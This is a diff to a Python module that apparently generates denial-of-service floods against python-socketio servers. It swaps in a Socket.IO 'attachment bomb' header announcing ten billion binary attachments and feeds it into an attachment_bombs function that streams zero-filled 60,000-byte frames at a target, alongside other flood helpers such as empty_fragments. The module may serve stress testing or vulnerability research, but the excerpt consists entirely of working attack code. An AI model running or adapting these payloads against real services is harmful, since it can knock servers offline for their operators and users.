@@ -13,8 +13,7 @@ BODY = (
     b"POST /socket.io/?EIO=4&transport=polling&sid=x HTTP/1.1\r\nhost: a\r\ncontent-type: text/plain\r\n"
     b"content-length: 100000\r\n\r\n"
 )
-BOMB = b'451-99999999999-/live,["danmaku",{"_placeholder":true,"num":0}]'
-SMALLER_BOMB = b'451-9999999999-/live,["danmaku",{"_placeholder":true,"num":0}]'
+BOMB = b'451-9999999999-/live,["danmaku",{"_placeholder":true,"num":0}]'
 """The most that stock python-socketio takes for a number of attachments has ten digits."""
 
 
@@ -37,9 +36,9 @@ class Drip:
     """Until each was closed; None: it never was."""
 
 
-def attachment_bombs(target: Gateway, seconds: float, header: bytes = SMALLER_BOMB) -> Flood:
+def attachment_bombs(target: Gateway, seconds: float) -> Flood:
     """An event that announces ten thousand million attachments, then attachments."""
-    return _flood(target, seconds, frame(header), frame(b"\x00" * 60_000, FINAL | BINARY))
+    return _flood(target, seconds, frame(BOMB), frame(b"\x00" * 60_000, FINAL | BINARY))
 
 
 def empty_fragments(target: Gateway, seconds: float) -> Flood:
